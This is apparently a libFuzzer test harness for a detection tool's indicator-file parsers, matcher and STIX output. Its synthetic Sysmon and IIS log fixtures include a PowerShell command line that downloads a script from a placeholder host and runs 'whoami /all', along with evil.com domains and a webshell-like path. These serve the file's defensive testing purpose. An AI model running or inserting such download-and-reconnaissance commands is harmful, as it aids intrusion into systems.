/*
 * fuzz_ioc.c — libFuzzer target for the indicator loaders and matcher: the
 * input is an indicator file (its format is detected from its content, so
 * one target reaches the list/CSV reader, the JSON parser, the STIX bundle
 * and pattern parsers and the MISP reader). It is loaded, compiled and run
 * over a few fixed events; the sightings are written as a STIX bundle,
 * which is parsed back. The input is also fed to the JSON parser and the
 * STIX pattern parser directly.
 *
 * Invariants: nothing crashes or leaks; every loaded indicator has an id
 * and a title; an indicator is sighted at most once per event; the bundle
 * written is valid JSON whose references resolve.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ioc/ioc.h"
#include "ioc/ioc_json.h"
#include "traccia.h"

static const char events[] =
    "{\"Event\":{\"System\":{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
    "\"Computer\":\"EXCH01\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2021-03-03T01:02:03Z\"}}},"
    "\"EventData\":{\"DestinationIp\":\"203.0.113.7\",\"DestinationPort\":443,\"SourceIp\":\"2001:db8::1\","
    "\"Image\":\"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\help.aspx\",\"QueryName\":\"a.evil.com\","
    "\"Hashes\":\"MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F\","
    "\"CommandLine\":\"powershell iwr http://bad.example.org/x.ps1 -o x.ps1; whoami /all\","
    "\"TargetUserName\":\"CORP\\\\svc\",\"Sender\":\"phish@evil.com\",\"Url\":\"https://evil.com:8443/a?b=1\","
    "\"List\":[\"10.1.2.3\",\"evil.net\"]}}}\n"
    "{\"EventData\":{\"UserAgent\":\"python-requests/2.25\",\"c-ip\":\"198.51.100.2:5555\"}}\n"
    "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Host) s-port\n";

static const char w3c[] = "#Software: Microsoft Internet Information Services 10.0\n"
                          "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Host) s-port\n"
                          "2021-03-03 01:02:03 POST /owa/auth/x.aspx a=1 203.0.113.9 curl/7.68 bad.example.org 443\n";

typedef struct run {
    tr_ioc_matcher *m;
    tr_sighting_log *log;
    size_t nind;
    uint8_t *seen; /* per indicator, this event */
} run;

static void on_sighting(void *user, const tr_detection *d)
{
    run *r = user;
    if (!d->rule || d->rule->kind != TR_RULE_INDICATOR || d->rule->index >= r->nind || !d->matched_value)
        abort();
    if (r->seen[d->rule->index]++)
        abort(); /* at most once per event */
    tr_sighting_log_add(r->log, d);
}

static int on_batch(void *user, const tr_batch *b)
{
    run *r = user;
    for (size_t i = 0; i < b->count; i++) {
        memset(r->seen, 0, r->nind ? r->nind : 1);
        size_t n = tr_ioc_matcher_event(r->m, b->events[i], on_sighting, r);
        if (n > r->nind)
            abort();
    }
    return 0;
}

static void check_bundle(const char *text, size_t len)
{
    json_doc d;
    tr_json_doc_init(&d);
    if (tr_json_parse(&d, text, len, len + 16) != TR_OK)
        abort(); /* what we write is JSON */
    const json_node *objs = tr_json_get(&d, json_root(&d), "objects");
    if (!objs)
        abort();
    for (const json_node *o = json_first(&d, objs); o; o = json_next(&d, o)) {
        for (const json_node *p = json_first(&d, o); p; p = json_next(&d, p)) {
            size_t kl = p->key_len;
            bool many = kl > 5 && strcmp(p->key + kl - 5, "_refs") == 0;
            if (!many && !(kl > 4 && strcmp(p->key + kl - 4, "_ref") == 0))
                continue;
            for (const json_node *v = many ? json_first(&d, p) : p; v; v = many ? json_next(&d, v) : NULL) {
                bool found = false;
                for (const json_node *t = json_first(&d, objs); t && !found; t = json_next(&d, t)) {
                    const char *id = tr_json_get_str(&d, t, "id");
                    found = id && v->str && strcmp(id, v->str) == 0;
                }
                if (!found)
                    abort(); /* every reference resolves inside the bundle */
            }
        }
    }
    tr_json_doc_free(&d);
}

static int keep(void *ctx, void *re)
{
    return tr_ioc_keep_regex(ctx, re);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    /* the parsers alone, on the raw bytes */
    json_doc d;
    tr_json_doc_init(&d);
    tr_json_parse(&d, (const char *)data, size, size / 2 + 16);
    tr_json_doc_free(&d);
    tr_iocset *set;
    if (tr_iocset_create(&set, NULL) != TR_OK)
        return 0;
    if (size < 4096) {
        ioc_expr *e;
        char err[256];
        tr_arena a;
        tr_arena_init(&a, 0);
        tr_ioc_pattern_parse((const char *)data, size, &a, &e, err, sizeof err, keep, set);
        tr_arena_free(&a);
    }
    /* the set */
    tr_iocset_add_memory(set, "fuzz.ioc", data, size);
    if (tr_iocset_compile(set) == TR_OK) {
        run r = {0};
        r.nind = tr_iocset_count(set);
        for (size_t i = 0; i < r.nind; i++) {
            const tr_rule_info *info = tr_iocset_indicator(set, i);
            if (!info || !info->id || !info->title || info->index != i || info->kind != TR_RULE_INDICATOR)
                abort();
        }
        r.seen = calloc(r.nind ? r.nind : 1, 1);
        if (r.seen && tr_ioc_matcher_create(&r.m, set) == TR_OK && tr_sighting_log_create(&r.log, set) == TR_OK) {
            tr_scan *scan;
            tr_scan_options so = {.on_batch = on_batch, .user = &r};
            if (tr_scan_create(&scan, &so) == TR_OK) {
                tr_scan_memory(scan, "events.jsonl", events, sizeof events - 1);
                tr_scan_memory(scan, "u_ex.log", w3c, sizeof w3c - 1);
                tr_scan_destroy(scan);
            }
            char *out = NULL;
            size_t len = 0;
            FILE *f = open_memstream(&out, &len);
            if (f) {
                int rc = tr_sighting_log_write_stix(r.log, f);
                tr_sighting_log_write_summary(r.log, f, 0);
                fclose(f);
                if (rc == TR_OK && out) {
                    /* the summary follows the bundle: check the bundle alone */
                    char *end = strstr(out, "\n]}\n");
                    if (!end)
                        abort();
                    check_bundle(out, (size_t)(end + 4 - out));
                }
                free(out);
            }
        }
        tr_sighting_log_destroy(r.log);
        tr_ioc_matcher_destroy(r.m);
        free(r.seen);
    }
    tr_iocset_destroy(set);
    return 0;
}
